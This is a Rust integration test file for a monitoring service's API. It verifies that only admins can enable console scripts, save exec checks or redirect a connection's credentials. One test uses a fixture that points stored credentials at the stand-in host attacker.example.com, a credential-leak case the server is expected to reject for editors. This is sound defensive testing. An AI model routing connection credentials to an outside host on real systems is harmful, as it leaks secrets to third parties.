//! The execution policy over real HTTP: only admins switch scripts from the
//! console on, and canaries saved in the console are held to it.

mod common;

use common::Api;
use reqwest::{Method, StatusCode};
use serde_json::json;
use sqlx::PgPool;

const PASSWORD: &str = "correct horse battery";
const POLICY: &str = "/api/settings/execution-policy";

async fn console_scripts(pool: &PgPool) -> bool {
    sqlx::query_scalar("SELECT console_scripts FROM execution_policy")
        .fetch_one(pool)
        .await
        .unwrap()
}

async fn canaries(pool: &PgPool) -> (i64, i64) {
    sqlx::query_as("SELECT (SELECT count(*) FROM canaries), (SELECT count(*) FROM checks)")
        .fetch_one(pool)
        .await
        .unwrap()
}

#[sqlx::test(migrator = "quarterdeck_store::MIGRATOR")]
async fn only_admins_can_switch_scripts_from_the_console_on(pool: PgPool) {
    let api = Api::start(pool.clone()).await;
    for role in ["admin", "editor", "viewer", "commander", "responder"] {
        api.person(&format!("{role}@x"), &[role], PASSWORD).await;
    }
    let on = json!({"allowConsoleScripts": true});
    for role in ["editor", "viewer", "commander", "responder"] {
        let client = api.signed_in(&format!("{role}@x"), PASSWORD).await;
        let (status, body) = api.call(&client, Method::GET, POLICY, None).await;
        assert_eq!(
            (status, &body),
            (StatusCode::OK, &json!({"allowConsoleScripts": false})),
            "{role}"
        );
        let (status, body) = api
            .call(&client, Method::PUT, POLICY, Some(on.clone()))
            .await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{role}: {body}");
        assert_eq!(
            body["message"],
            "only admins can change the execution policy"
        );
        // The policy is not a relation of the data API, and no property stands for it.
        for path in [
            "/api/db/execution_policy",
            "/api/db/execution_policy?id=eq.true",
        ] {
            for method in [Method::POST, Method::PATCH, Method::DELETE] {
                let (status, _) = api
                    .call(
                        &client,
                        method.clone(),
                        path,
                        Some(json!({"console_scripts": true})),
                    )
                    .await;
                assert!(status.is_client_error(), "{role} {method} {path}: {status}");
            }
        }
        assert!(!console_scripts(&pool).await, "{role} switched scripts on");
    }
    // Basic auth with the editor's password is no way around it either.
    let res = common::browser()
        .put(api.at(POLICY))
        .basic_auth("editor@x", Some(PASSWORD))
        .json(&on)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    assert!(!console_scripts(&pool).await);

    let admin = api.signed_in("admin@x", PASSWORD).await;
    let (status, body) = api
        .call(
            &admin,
            Method::PUT,
            POLICY,
            Some(json!({"allowConsoleScripts": 1})),
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    let (status, body) = api
        .call(&admin, Method::PUT, POLICY, Some(on.clone()))
        .await;
    assert_eq!((status, body), (StatusCode::OK, on));
    assert!(console_scripts(&pool).await);
}

#[sqlx::test(migrator = "quarterdeck_store::MIGRATOR")]
async fn an_editor_cannot_save_a_console_exec_check_until_an_admin_allows_scripts(pool: PgPool) {
    let api = Api::start(pool.clone()).await;
    api.person("admin@x", &["admin"], PASSWORD).await;
    api.person("editor@x", &["editor"], PASSWORD).await;
    let editor = api.signed_in("editor@x", PASSWORD).await;
    let canary = json!({"name": "scripts", "spec": {
        "schedule": "@every 1h",
        "http": [{"name": "home", "url": "http://example.com"}],
        "exec": [{"name": "df", "script": "df -h"}]
    }});
    let (status, body) = api
        .call(
            &editor,
            Method::POST,
            "/api/db/canaries",
            Some(canary.clone()),
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    let message = body["message"].as_str().unwrap_or_default();
    assert!(
        message.starts_with("spec.exec[0]: exec checks from the console are disabled"),
        "{message}"
    );
    assert_eq!(canaries(&pool).await, (0, 0), "nothing is written");

    // Nor can an existing canary gain one.
    let (status, body) = api.call(&editor, Method::POST, "/api/db/canaries", Some(json!({"name": "web", "spec": {"http": [{"name": "home", "url": "http://example.com"}]}}))).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let id = body[0]["id"].as_str().unwrap().to_owned();
    let (status, _) = api
        .call(
            &editor,
            Method::PATCH,
            &format!("/api/db/canaries?id=eq.{id}"),
            Some(json!({"spec": canary["spec"]})),
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(canaries(&pool).await, (1, 1));

    let admin = api.signed_in("admin@x", PASSWORD).await;
    let (status, _) = api
        .call(
            &admin,
            Method::PUT,
            POLICY,
            Some(json!({"allowConsoleScripts": true})),
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    let (status, body) = api
        .call(&editor, Method::POST, "/api/db/canaries", Some(canary))
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    assert_eq!(canaries(&pool).await, (2, 3));
}

#[sqlx::test(migrator = "quarterdeck_store::MIGRATOR")]
async fn only_admins_can_point_a_connections_credentials_elsewhere(pool: PgPool) {
    let api = Api::start(pool.clone()).await;
    api.person("admin@x", &["admin"], PASSWORD).await;
    api.person("editor@x", &["editor"], PASSWORD).await;
    let editor = api.signed_in("editor@x", PASSWORD).await;
    let admin = api.signed_in("admin@x", PASSWORD).await;
    let foreign = json!({"name": "leak", "spec": {"http": [
        {"name": "ok", "connection": "connection://api"},
        {"name": "leak", "connection": "connection://api", "url": "https://attacker.example.com/"}
    ]}});
    let (status, body) = api
        .call(
            &editor,
            Method::POST,
            "/api/db/canaries",
            Some(foreign.clone()),
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    let message = body["message"].as_str().unwrap_or_default();
    assert!(
        message.starts_with(
            "spec.http[1].url: a check that names a connection may not set its own url"
        ),
        "{message}"
    );
    for (kind, field) in [
        ("postgres", "url"),
        ("redis", "addr"),
        ("prometheus", "host"),
    ] {
        let spec = json!({"name": kind, "spec": {kind: [{"name": "x", "connection": "connection://db", field: "elsewhere:1"}]}});
        let (status, body) = api
            .call(&editor, Method::POST, "/api/db/canaries", Some(spec))
            .await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{kind}: {body}");
        assert!(
            body["message"]
                .as_str()
                .unwrap_or_default()
                .starts_with(&format!("spec.{kind}[0].{field}:")),
            "{body}"
        );
    }
    assert_eq!(canaries(&pool).await, (0, 0));

    // An admin may, and the engine then sends the credentials there.
    let (status, body) = api
        .call(&admin, Method::POST, "/api/db/canaries", Some(foreign))
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let id = body[0]["id"].as_str().unwrap().to_owned();
    let approved: Vec<(String, bool)> =
        sqlx::query_as("SELECT name, endpoint_override_approved FROM checks ORDER BY name")
            .fetch_all(&pool)
            .await
            .unwrap();
    assert_eq!(approved, [("leak".into(), true), ("ok".into(), false)]);

    // An editor may still edit the canary around the admin's override, not the override itself.
    let patch = |url: &str| {
        json!({"labels": {"team": "web"}, "spec": {"schedule": "@every 5m", "http": [
            {"name": "ok", "connection": "connection://api"},
            {"name": "leak", "connection": "connection://api", "url": url}
        ]}})
    };
    let path = format!("/api/db/canaries?id=eq.{id}");
    let (status, body) = api
        .call(
            &editor,
            Method::PATCH,
            &path,
            Some(patch("https://attacker.example.com/")),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let (status, body) = api
        .call(
            &editor,
            Method::PATCH,
            &path,
            Some(patch("https://other.example.com/")),
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    let url: String = sqlx::query_scalar("SELECT spec->>'url' FROM checks WHERE name = 'leak'")
        .fetch_one(&pool)
        .await
        .unwrap();
    assert_eq!(url, "https://attacker.example.com/");
}
